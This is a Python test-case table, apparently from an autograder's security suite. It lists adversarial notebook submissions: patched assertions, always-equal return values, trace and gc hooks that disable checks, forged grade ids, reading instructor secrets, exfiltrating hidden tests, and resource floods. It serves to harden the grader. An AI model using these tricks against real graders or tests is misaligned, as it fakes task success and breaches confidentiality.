           "wrong scale/transpose/matrix_add/product_shape; their test cells get points 100, grade "
           "False, solution True, or become markdown; a solution cell becomes a 50-point grade cell",
           metadata, ("graded",), "", zero=("scale", "transpose", "matrix_add", "product_shape"),
           keep=("matmul_loops", "commutes")),
    Attack("atk-duplicate", "duplicate grade ids",
           "wrong scale/transpose; a copy of scale_values (source `pass`) and of the transpose "
           "solution cell, same grade_ids",
           duplicate, ("graded", "not graded"), "", zero=("scale", "transpose")),
    Attack("atk-patch-asserts", "test machinery (numpy.testing, AssertionError)",
           "added cell patches numpy.testing, np.allclose and builtins.AssertionError; wrong scale() "
           "(the patched np.allclose also breaks the student's own commutes() and is_solution())",
           lambda ctx: one(ctx, {"scale": WRONG["scale"]}, after_setup(PATCH_ASSERTS)),
           ("graded",), "", zero=("scale",), keep=but("scale", "commutes", "is_solution", "matmul_loops"),
           zero_cells=(CODE_CHECK,), denied_by="split"),
    Attack("atk-hide-errors", "error reporting",
           "added cell installs a custom exception handler, silences showtraceback and stderr; "
           "wrong scale()",
           lambda ctx: one(ctx, {"scale": WRONG["scale"]}, after_setup(HIDE_ERRORS)),
           ("graded",), "", zero=("scale",), keep=but("scale", "matmul_loops"), zero_cells=(CODE_CHECK,),
           denied_by="split"),
    Attack("atk-always-equal", "value comparison",
           "transpose() returns an object equal to everything; matrix_add() an ndarray subclass "
           "with lying __eq__ and ufuncs",
           lambda ctx: one(ctx, ALWAYS_EQUAL),
           ("graded",), "", zero=("transpose", "matrix_add"), keep=but("transpose", "matrix_add")),
    Attack("atk-read-secrets", "confidentiality (source, gradebook, canaries, env, other students)",
           "untouched release; scale cell and an added cell open and print the instructor's files",
           reader, ("graded",), "", zero=tuple(EXERCISES), denied_by="sandbox"),
    Attack("atk-network", "network",
           "the scale cell connects to the test's TCP listener on 127.0.0.1 and beyond",
           lambda ctx: one(ctx, {"scale": network(ctx)}),
           ("graded",), "", zero=("scale",), keep=but("scale"), denied_by="sandbox"),
    Attack("atk-write-outside", "the grader's file system",
           "the scale cell writes to the course, submitted/, /tmp, the kernels' socket folder "
           "and checks.py, and fills every writable folder",
           lambda ctx: one(ctx, {"scale": write_outside(ctx)}),
           ("graded",), "", zero=("scale",), keep=but("scale")),
    Attack("atk-corrupt-json", "notebook file", "02 truncated to half its JSON",
           truncated, ("unreadable",), "not a notebook", zero=tuple(EXERCISES)),
    Attack("atk-missing-notebook", "notebook file", "submits 01 and 03 (reference) but no 02",
           missing, ("missing",), "", zero=tuple(EXERCISES),
           others=(("01_derivatives_and_gradients", "graded"), ("03_numpy_essentials", "graded"))),
    Attack("atk-wrong-name", "notebook file", "02 (reference) saved as `02_matrix_operations (1).ipynb`",
           lambda ctx: one(ctx, name=f"{NB} (1).ipynb"), ("missing",), "", zero=tuple(EXERCISES)),
    Attack("atk-binary", "notebook file", "02 is 64 KiB of binary garbage",
           lambda ctx: {f"{NB}.ipynb": bytes(range(256)) * 256}, ("unreadable",), "not a notebook",
           zero=tuple(EXERCISES)),
    Attack("atk-empty", "notebook file", "02 is an empty file",
           lambda ctx: {f"{NB}.ipynb": b""}, ("unreadable",), "not a notebook", zero=tuple(EXERCISES)),
    # In-kernel tampering: student code that rewrites the tests, their helpers or the kernel they
    # would run in. Test cells run in the grading process (split grading), so none of it reaches them.
    Attack("atk-rebind-checks", "test helpers in the notebook namespace",
           "added cell rebinds expect_array, call_unchanged, ... to no-ops; wrong scale()",
           lambda ctx: one(ctx, {"scale": WRONG["scale"]}, after_setup(REBIND_CHECKS)),
           ("graded",), "", zero=("scale",), keep=but("scale"), denied_by="split"),
    Attack("atk-skip-tests", "test cell source at run time",
           "added cell registers an IPython input transformer that empties every test cell; wrong scale()",
           lambda ctx: one(ctx, {"scale": WRONG["scale"]}, after_setup(SKIP_TESTS)),
           ("graded",), "", zero=("scale",), keep=but("scale", "matmul_loops"), zero_cells=(CODE_CHECK,),
           denied_by="split"),
    Attack("atk-replace-run-cell", "the kernel's cell runner",
           "first cell replaces get_ipython().run_cell (every later cell runs `pass`); every exercise returns "
           "an object equal to everything",
           lambda ctx: one(ctx, edit=after_setup(REPLACE_RUN_CELL)), ("graded",), "", zero=tuple(EXERCISES),
           denied_by="split"),
    Attack("atk-settrace", "tracing and profiling hooks",
           "sys.settrace, sys.setprofile and threading.settrace turn `fail` into a no-op wherever it is "
           "seen; every answer wrong",
           lambda ctx: one(ctx, WRONG, after_setup(SETTRACE)), ("graded",), "", zero=tuple(EXERCISES),
           denied_by="split"),
    Attack("atk-gc-patch", "every object of the interpreter",
           "walks gc.get_objects() and turns the check functions into no-ops; every answer wrong",
           lambda ctx: one(ctx, WRONG, after_setup(GC_PATCH)), ("graded",), "", zero=tuple(EXERCISES),
           denied_by="split"),
    Attack("atk-frame-inspect", "the caller's frames",
           "scale() walks up sys._getframe() and disarms fail/expect_array/call_unchanged there, then "
           "returns its input",
           lambda ctx: one(ctx, {"scale": FRAME_INSPECT}), ("graded",), "", zero=("scale",),
           keep=but("scale", "matmul_loops"), zero_cells=(CODE_CHECK,), denied_by="split"),
    Attack("atk-builtins-numpy", "builtins and NumPy in the kernel",
           "rebinds isinstance, all, any, abs, np.allclose, np.array_equal, np.isclose, ndarray.__eq__; "
           "every answer wrong",
           lambda ctx: one(ctx, WRONG, after_setup(PATCH_BUILTINS_NUMPY)), ("graded", "stopped"), "",
           zero=tuple(EXERCISES)),
    Attack("atk-dunder-tricks", "the returned value",
           "scale() returns an object with __array__ (right values), __float__ and __eq__; product_shape() "
           "a tuple subclass equal to everything; commutes() a float subclass equal to everything",
           lambda ctx: one(ctx, DUNDER_TRICKS), ("graded",), "", zero=tuple(DUNDER_TRICKS),
           keep=but(*DUNDER_TRICKS)),
    Attack("atk-huge-reply", "the grader's memory",
           "transpose() returns a 100 MB array, matrix_add() a list nested 100 000 deep, matrix_subtract() "
           "a 50 MB string",
           lambda ctx: one(ctx, HUGE_REPLIES), ("graded",), "", zero=tuple(HUGE_REPLIES), keep=but(*HUGE_REPLIES)),
    Attack("atk-lying-exception", "error classes",
           "matrix_add() raises a class named ValueError that is not one, is_solution() one named "
           "KeyboardInterrupt, commutes() one whose message raises and whose name is 11 000 characters",
           lambda ctx: one(ctx, LYING_EXCEPTIONS), ("graded",), "", zero=tuple(LYING_EXCEPTIONS),
           keep=but(*LYING_EXCEPTIONS)),
    Attack("atk-callback-forever", "the test's callback",
           "numerical_derivative() (01) calls the test's function forever on its first call",
           lambda ctx: one(ctx, {"numerical_derivative": CALLBACK_FOREVER}, nb=NB_CALLBACK), ("timed out",), "",
           zero=("numerical_derivative",), keep=but("numerical_derivative", nb=NB_CALLBACK), notebook=NB_CALLBACK),
    Attack("atk-exfiltrate-tests", "hidden tests' confidentiality",
           "a last cell prints, base64-encoded, its input history and every file it can open; every answer wrong",
           lambda ctx: one(ctx, WRONG, at_end(EXFILTRATE_TESTS)), ("graded",), "", zero=tuple(EXERCISES),
           denied_by="split"),
    Attack("atk-print-flood-call", "output during a call",
           "transpose() prints 3 MB and writes 3 MB to its file descriptor on every call; returns its input",
           lambda ctx: one(ctx, {"transpose": PRINT_FLOOD}), ("graded", "stopped"), "", zero=("transpose",),
           # ipykernel sends what reached the descriptor when it flushes: one message may or may not pass
           # the size cap (the notebook then stops), by timing.
           keep=("scale",), keep_if_alive=after("transpose"), load_dependent=after("transpose")),
    # The notebook's structure (split grading takes its instructor cells from the gradebook).
    Attack("atk-readded-test", "deleted test cells re-added by nbgrader",
           "both scale test cells deleted (nbgrader re-adds them behind a comment line); an added cell binds "
           "no-op checks with := in a comprehension; wrong scale()",
           readded_test, ("graded",), "", zero=("scale",), keep=but("scale"), withheld=True, denied_by="split"),
    Attack("atk-unmarked-tests", "test cells without nbgrader metadata",
           "transpose's test cells stripped of their metadata (they run as student code; nbgrader re-adds "
           "the real ones); no-op checks bound with :=; wrong transpose()",
           unmarked_tests, ("graded",), "", zero=("transpose",), keep=but("transpose"), withheld=True,
           denied_by="split"),
    Attack("atk-setup-moved", "the setup cell's place",
           "01: the setup cell moved to the end, the student's own no-op checks defined first; wrong formulas "
           "and partial derivatives (their tests use no np), the reference elsewhere",
           setup_moved, ("graded",), "", zero=tuple(WRONG_01), keep=but(*WRONG_01, nb=NB_CALLBACK),
           notebook=NB_CALLBACK, withheld=True, denied_by="split"),
    Attack("atk-setup-deleted", "the setup cell",
           "01: the setup cell replaced by the student's own no-op checks; the same answers",
           setup_deleted, ("graded",), "", zero=tuple(WRONG_01), keep=but(*WRONG_01, nb=NB_CALLBACK),
           notebook=NB_CALLBACK, withheld=True, denied_by="split"),
    Attack("atk-forged-test", "a test cell's id",
           "a cell claiming scale_values' grade_id (source `passed()`) above the scale cell, the real one "
           "deleted; wrong scale()",
           forged_test, ("graded",), "", zero=("scale",), keep=but("scale"), withheld=True),
    # What crosses from the kernel into the grading process.
    Attack("atk-callback-abuse", "call-backs into the grading process",
           "chain_rule's and numerical_derivative's functions (01) call the test's functions with "
           "where=False, an out array, too many arguments and a function, and print what comes back",
           lambda ctx: one(ctx, CALLBACK_ABUSE, nb=NB_CALLBACK), ("graded",), "",
           zero=tuple(CALLBACK_ABUSE), keep=but(*CALLBACK_ABUSE, nb=NB_CALLBACK), notebook=NB_CALLBACK,
           withheld=False),
    Attack("atk-hash-pileup", "the grader's time (hashing)",
           "transpose() and matrix_add() type by input() a reply holding a set of 40 000, a dict of 20 000, "
           "integers that all hash alike",
           lambda ctx: one(ctx, HASH_PILEUP), ("graded",), "", zero=tuple(HASH_PILEUP),
           keep=but(*HASH_PILEUP, "matmul_loops"), zero_cells=(CODE_CHECK,)),
    Attack("atk-regex-stall", "the grader's time (regular expressions)",
           "scale() raises a TypeError of 'Cannot interpret ' x 40 000; product_shape() types a reply by input() "
           "past the agent's cut: a 680 000-character message and 300 traceback lines of 19 000 characters",
           lambda ctx: one(ctx, REGEX_STALL), ("graded",), "", zero=tuple(REGEX_STALL),
           keep=("transpose", "matrix_add"), zero_cells=(CODE_CHECK,)),
    Attack("atk-iopub-flood", "the grader's memory (IOPub)",
           "the transpose cell sends eight signed IOPub messages of 40 MB from inside the kernel",
           lambda ctx: one(ctx, {"transpose": IOPUB_FLOOD}), ("stopped",), "printed more than",
           zero=("transpose",) + after("transpose"), keep=("scale",), withheld=True),
    # Code-reading checks fail closed.
    *[Attack(f"atk-matmul-{how}", "the no-library-product check",
             f"matmul_loops: {what}", lambda ctx, how=how: one(ctx, {"matmul_loops": HIDDEN_PRODUCTS[how]}),
             ("graded",), "", zero_cells=("matmul_loops_no_library_product",), keep=but("matmul_loops"),
             withheld=withheld)
      for how, what, withheld in (
          ("rebound", "a loop-like def, then rebound to a function that calls np.matmul", True),
          ("getattr", "getattr(np, 'mat' 'mul') per entry, inside two loops", True),
          ("new-routine", "np.linalg.vecdot per entry, inside two loops (a product not in any list before)", False),
          ("walrus", "a loop-like def, then rebound by := in a comprehension to a lambda using @", True),
          ("correlate", "np.correlate(row, column) per entry, inside two loops (a dot product no list names)",
           True))],
]

BY_STUDENT = {a.student: a for a in ATTACKS}
assert len(BY_STUDENT) == len(ATTACKS)


def describe():
    """The case table (what each case attacks and how), as text."""
    return "\n".join(f"{a.student:24} {a.attacks:40} {a.how}" for a in ATTACKS)
